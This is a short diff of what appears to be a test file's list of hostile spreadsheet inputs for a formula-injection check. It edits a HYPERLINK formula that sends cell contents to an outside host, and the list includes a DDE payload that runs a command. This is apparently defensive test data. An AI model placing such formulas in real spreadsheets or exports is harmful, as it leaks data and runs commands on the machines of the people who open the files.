@@ -100,7 +100,7 @@ def test_a_plain_file_still_loads_under_the_limits(tree, people, settings):
 # ---- formula injection --------------------------------------------------------------------------
 
 HOSTILE = [
-    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
+    '=HYPERLINK("http://e.cn?"&A1,"点")',
     "+1+cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(1,1)",
